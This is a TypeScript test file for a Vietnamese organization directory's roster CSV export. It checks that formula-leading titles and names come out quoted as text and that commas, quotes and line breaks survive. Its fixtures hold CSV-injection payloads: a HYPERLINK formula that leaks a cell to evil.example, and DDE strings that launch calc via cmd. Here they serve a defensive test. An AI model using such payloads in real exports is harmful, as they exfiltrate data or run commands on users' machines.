import { issueToken } from '../../src/auth/tokens.js';
import { loadConfig } from '../../src/config/config.js';
import { Body } from '../../src/modules/body/body.entity.js';
import { BodyKind } from '../../src/modules/body/body.enums.js';
import { Organization } from '../../src/modules/organization/organization.entity.js';
import { OrganizationKind } from '../../src/modules/organization/organization.enums.js';
import { Person } from '../../src/modules/person/person.entity.js';
import { toGlobalId } from '../../src/relay/global-id.js';
import { startTestServer, type TestServer } from '../support/server.js';

/**
 * Issue 10, item 6: what an editor writes into a roster comes out of the CSV export as data, never as a
 * spreadsheet formula (OWASP: a leading = + - @ tab or carriage return is prefixed with a single quote),
 * and quoting stays correct for commas, quotes and line breaks.
 */
let server: TestServer;
const id: Record<string, string> = {};
const token: Record<string, string> = {};

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
const TITLES: [string, string][] = [
  ['formula', HYPERLINK],
  ['plus', '+1+cmd|\' /C calc\'!A0'],
  ['minus', '-2+3'],
  ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['full-width equals', '＝1+1'],
  ['comma and quotes', 'Chủ tịch, kiêm "Tổng"'],
  ['line break', 'Phó chủ tịch\nthường trực'],
  ['plain', 'Ủy viên'],
];

beforeAll(async () => {
  server = await startTestServer('csv_export', { seed: false });
  const em = server.app.database.orm.em.fork();
  const src = { sourceCitations: ['fixture'] };
  const org = em.create(Organization, { kind: OrganizationKind.FRIENDSHIP_ASSOCIATION, nameVi: 'Hội "Bạn bè", Hà Nội', ...src });
  const body = em.create(Body, { organization: org, kind: BodyKind.EXECUTIVE_COMMITTEE, size: 20, ...src });
  const persons = TITLES.map(([name], i) => em.create(Person, { fullName: i === 0 ? '@Nguyễn Văn A' : `Người ${String(i).padStart(2, '0')} (${name})`, ...src }));
  await em.flush();
  id.org = toGlobalId('Organization', org.id);
  id.body = toGlobalId('Body', body.id);
  const { authSecret } = loadConfig({ NODE_ENV: 'test' });
  const editor = await issueToken(authSecret, { role: 'ASSOCIATION_EDITOR', subject: 'editor', organizationId: org.id });
  token.editor = editor;
  token.secretariat = await issueToken(authSecret, { role: 'SECRETARIAT', subject: 'secretariat' });
  // Written by an editor through the API, as an attacker would.
  for (const [i, [, title]] of TITLES.entries()) {
    const { body: answer } = await server.gql(
      'mutation($input: AppointMemberInput!) { appointMember(input: $input) { membership { id } } }',
      { input: { personId: toGlobalId('Person', persons[i].id), organizationId: id.org, bodyId: id.body, role: 'MEMBER', startDate: `2025-01-${String(i + 1).padStart(2, '0')}`, title } },
      { authorization: `Bearer ${editor}` },
    );
    expect(answer.errors).toBeUndefined();
  }
});
afterAll(() => server.stop());

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

async function roster(): Promise<Record<string, string>[]> {
  const response = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?asOf=2025-06-01`);
  expect(response.status).toBe(200);
  const text = new TextDecoder('utf-8').decode(new Uint8Array(await response.arrayBuffer())).replace(/^\uFEFF/, '');
  // the provenance comment line (issue 15, item 5) comes before the header
  const [header, ...rows] = parseCsv(text.replace(/^#[^\n]*\n/, ''));
  expect(rows.every((r) => r.length === header.length)).toBe(true);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

describe('roster CSV', () => {
  it.each(TITLES)('a title starting with %s comes out as text, never as a formula', async (_name, title) => {
    const row = (await roster()).find((r) => r.title === title || r.title === `'${title}`);
    expect(row).toBeDefined();
    const startsFormula = /^[=+\-@\t\r＝＋－＠]/.test(title);
    expect(row!.title).toBe(startsFormula ? `'${title}` : title);
  });

  it('no cell of the export starts with a formula character', async () => {
    const rows = await roster();
    expect(rows).toHaveLength(TITLES.length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(rows.map((r) => r.person)).toContain("'@Nguyễn Văn A");
  });

  it('commas, quotes and line breaks are quoted and survive intact', async () => {
    const response = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?asOf=2025-06-01`);
    const text = await response.text();
    expect(text).toContain('"Chủ tịch, kiêm ""Tổng"""');
    expect(text).toContain('"Hội ""Bạn bè"", Hà Nội"');
    expect(text).toContain('"Phó chủ tịch\nthường trực"');
    const rows = await roster();
    expect(rows.map((r) => r.title)).toEqual(expect.arrayContaining(['Chủ tịch, kiêm "Tổng"', 'Phó chủ tịch\nthường trực', 'Ủy viên']));
    expect(new Set(rows.map((r) => r.organization))).toEqual(new Set(['Hội "Bạn bè", Hà Nội']));
  });

  it('a person named =HYPERLINK(...) through the API comes out as text', async () => {
    const { body: created } = await server.gql('mutation($input: CreatePersonInput!) { createPerson(input: $input) { person { id } } }', { input: { fullName: HYPERLINK } }, { authorization: `Bearer ${token.secretariat}` });
    expect(created.errors).toBeUndefined();
    const { body: appointed } = await server.gql(
      'mutation($input: AppointMemberInput!) { appointMember(input: $input) { membership { id } } }',
      { input: { personId: created.data.createPerson.person.id, organizationId: id.org, bodyId: id.body, role: 'MEMBER', startDate: '2025-02-01' } },
      { authorization: `Bearer ${token.editor}` },
    );
    expect(appointed.errors).toBeUndefined();
    const rows = await roster();
    expect(rows.map((r) => r.person)).toContain(`'${HYPERLINK}`);
    expect(rows.map((r) => r.person)).not.toContain(HYPERLINK);
  });

  it('names its source and date on its first line, a comment before the header (issue 15, item 5)', async () => {
    const before = new Date(Date.now() - 1000).toISOString().slice(0, 19);
    const response = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?asOf=2025-06-01&ignored=a,b`);
    const [comment, header] = (await response.text()).replace(/^\uFEFF/, '').split('\n');
    expect(comment).toMatch(
      new RegExp(`^# Amity — directory of Vietnam’s people-to-people diplomacy network: roster as of 2025-06-01; source: ${server.url.replace(/\./g, '\\.')}/export/bodies/${id.body}/roster\\.csv\\?asOf=2025-06-01; exported: (\\d{4}-\\d{2}-\\d{2}T\\d{2}:\\d{2}:\\d{2}Z); the sources of each row are in its sources column$`),
    );
    expect(comment.match(/exported: (\S+);/)![1] >= before).toBe(true);
    // one cell in a spreadsheet: no comma (the parameters the route did not read are not echoed)
    expect(comment).not.toContain(',');
    expect(header).toBe('organization,body,term,person,role,title,start,end,term_start,term_end,congress,sources,certainty,last_attested');
    const history = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?history=true`);
    expect((await history.text()).split('\n')[0]).toMatch(/roster history; source: .*\/roster\.csv\?history=true; exported: /);
  });
});
